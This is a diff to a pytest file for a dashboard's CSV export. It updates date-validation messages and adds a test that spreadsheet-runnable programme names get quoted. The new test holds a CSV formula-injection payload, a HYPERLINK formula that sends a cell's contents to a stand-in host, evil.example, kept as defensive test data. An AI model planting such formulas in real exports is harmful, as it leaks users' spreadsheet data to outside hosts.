@@ -90,7 +90,8 @@ def test_choosing_a_period_shows_that_period_and_keeps_it_in_the_url(manager_cli
 @pytest.mark.parametrize(
     ("params", "message"),
     [
-        ({"period": "last tuesday"}, "Select a valid choice"),
+        ({"period": "last tuesday"}, "Enter a valid date."),
+        ({"period": "9999-12-01"}, "Enter a date between the years 1900 and 2100."),
         ({"period_kind": "fortnight"}, "Select a valid choice"),
         ({"sector": "not-a-number"}, "Select a valid choice"),
         ({"programme": "999999"}, "Select a valid choice"),
@@ -442,3 +443,20 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(manager_client):
     rows = csv_rows(manager_client.get(url, {"period": "2026-10-01", "download": "initiatives"}))
 
     assert rows[1][0] == '\'=HYPERLINK("http://example.org")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_programme_cell_that_a_spreadsheet_would_run_is_quoted(manager_client, start):
+    # Given an initiative of a programme whose name a spreadsheet would run (the cell holds the Programme itself)
+    from tests.programmes.factories import ProgrammeFactory
+
+    name = f'{start}HYPERLINK("http://evil.example/?d="&A2,"Open")'
+    units = [UnitFactory(sector=SectorFactory()), UnitFactory(sector=SectorFactory())]
+    make_initiative("Library in schools", units, start=datetime.date(2026, 1, 1), programme=ProgrammeFactory(name=name))
+    url = reverse("dashboards:drilldown", args=["cross_sector_share"])
+
+    # When the drill-down is downloaded
+    rows = csv_rows(manager_client.get(url, {"period": "2026-10-01", "download": "initiatives"}))
+
+    # Then the programme's name is text, and an initiative without an end date has an empty cell
+    assert rows[1] == ["Library in schools", "Active", "2026-01-01", "", f"'{name}"]
